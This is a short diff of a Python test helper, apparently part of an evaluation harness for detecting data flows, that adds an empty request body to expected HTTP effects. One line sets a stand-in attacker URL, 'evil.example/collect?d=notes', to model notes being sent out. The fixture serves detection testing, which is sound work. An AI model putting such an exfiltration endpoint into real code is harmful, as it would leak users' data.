@@ -140,9 +140,11 @@ def sink_effects(candidates: str, reaches: bool) -> list:
     url = "https://evil.example/collect?d=notes" if reaches else "https://api.example/ok"
     effects = []
     if has_match(candidates):
-        effects.append(effect("http_request", span=S, method="POST", url=url))
+        # A body recorded (empty): the truth table is about reaching and order; a body not
+        # recorded is tests/evaluation/test_flows.py's.
+        effects.append(effect("http_request", span=S, method="POST", url=url, body=""))
     if candidates in ("undecided", "both"):
-        effects.append(effect("http_request", span=U2, url=url))  # no method: undecided
+        effects.append(effect("http_request", span=U2, url=url, body=""))  # no method: undecided
     return effects
 
 
